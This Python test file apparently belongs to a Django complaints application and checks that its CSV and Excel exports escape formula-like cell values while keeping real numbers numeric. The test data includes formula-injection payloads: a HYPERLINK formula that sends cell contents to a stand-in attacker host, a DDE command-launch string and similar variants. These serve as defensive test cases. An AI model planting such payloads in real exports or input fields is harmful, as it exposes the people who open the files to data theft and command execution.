"""Exports are safe to open: formula-like text is text, numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from complaints.spreadsheets import csv_cell, csv_text, is_formula_like

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "neutralised"),
    [
        (ATTACK, True),
        ("+1+2", True),
        ("-2+3+cmd|' /C calc'!A0", True),
        ("@SUM(1+1)", True),
        ("\t=1", True),
        ("\r=1", True),
        ("-12", False),
        ("-12.5", False),
        ("+7%", False),
        ("Safeguarding East", False),
        (-12, False),
        (3.5, False),
        (None, False),
    ],
)
def test_what_counts_as_a_formula(value, neutralised):
    assert is_formula_like(value) is neutralised
    assert (csv_cell(value) != value) is neutralised


def test_csv_keeps_negative_numbers_and_quotes_formulas():
    rows = list(csv.reader(io.StringIO(csv_text(["a", "b", "c"], [[ATTACK, -4, "-4"]]))))
    assert rows[1] == ["'" + ATTACK, "-4", "-4"]


@pytest.mark.django_db
def test_the_case_export_and_the_dashboard_downloads_neutralise_names(
    client, build, team, complaints_manager
):
    team.name = ATTACK
    team.save()
    team.service.name = "@cmd"
    team.service.save()
    build.case("in_progress", service_area=team.service)
    client.force_login(complaints_manager)

    export = client.get(reverse("case-export")).content.decode()
    cells = [c for row in csv.reader(io.StringIO(export)) for c in row]
    assert "'@cmd" in cells
    assert any(c.startswith("'" + ATTACK) for c in cells)  # the team, named with its service
    assert not any(c.startswith(("=", "+", "@")) for c in cells)

    table = client.get(reverse("dashboard-table", args=["teams", "csv"])).content.decode()
    cells = [c for row in csv.reader(io.StringIO(table)) for c in row]
    assert any(c.startswith("'" + ATTACK) for c in cells)

    xlsx = client.get(reverse("dashboard-table", args=["teams", "xlsx"])).content
    sheet = load_workbook(io.BytesIO(xlsx)).active
    found = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith(ATTACK)]
    assert found and all(c.data_type == "s" for c in found)
    numbers = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, int | float)]
    assert numbers and all(c.data_type == "n" for c in numbers)
